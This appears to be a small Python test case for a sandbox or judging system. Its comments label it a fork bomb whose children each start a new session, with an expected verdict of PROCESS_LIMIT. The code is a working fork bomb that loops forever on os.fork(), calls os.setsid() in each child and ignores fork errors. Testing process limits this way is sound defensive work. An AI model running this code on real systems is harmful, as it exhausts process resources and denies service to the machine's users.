# mechanism: fork bomb whose processes each open a session of their own
# verdict: PROCESS_LIMIT
import os

while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
